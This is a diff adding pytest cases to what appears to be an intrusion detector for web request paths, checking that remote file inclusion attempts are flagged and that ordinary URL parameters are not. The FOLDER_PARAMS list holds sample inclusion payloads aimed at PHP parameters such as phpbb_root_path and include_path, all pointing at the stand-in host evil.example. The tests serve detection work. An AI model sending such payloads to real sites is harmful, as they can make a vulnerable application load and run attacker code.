@@ -83,3 +83,23 @@ def test_system_folders_as_request_paths_count_only_when_missing(target):
 @pytest.mark.parametrize("target", ORDINARY)
 def test_dots_drives_and_system_words_in_ordinary_requests_raise_nothing(target):
     assert ids(target) == set()
+
+
+FOLDER_PARAMS = ["/phpBB/includes/db.php?phpbb_root_path=http://evil.example/",
+                 "/y.php?mosConfig_absolute_path=http://evil.example/x", "/y.php?base_dir=http://evil.example/",
+                 "/y.php?lang_file=http://evil.example/x.txt", "/y.php?include_path=http%3A%2F%2Fevil.example%2F",
+                 "/y.php?_conf[path]=http://evil.example/", "/y.php?Template_Dir=HTTP://evil.example/"]
+LINK_PARAMS = ["/x?return_path=https://example.org/", "/x?api_root=https://api.example.org/",
+               "/x?root=https://example.org/", "/x?path=https://example.org/blog/", "/x?server_path=https://example.org/",
+               "/x?image_path=https://cdn.example.com/a.png", "/x?file_url=https://example.org/doc.pdf",
+               "/x?redirect_path=https://a.example/b", "/x?webhook_path=https://hooks.example/x"]
+
+
+@pytest.mark.parametrize("target", FOLDER_PARAMS)
+def test_a_remote_url_in_a_folder_or_file_parameter_is_inclusion(target):
+    assert "rfi" in ids(target)
+
+
+@pytest.mark.parametrize("target", LINK_PARAMS)
+def test_links_and_single_word_parameters_holding_urls_raise_nothing(target):
+    assert ids(target) == set()
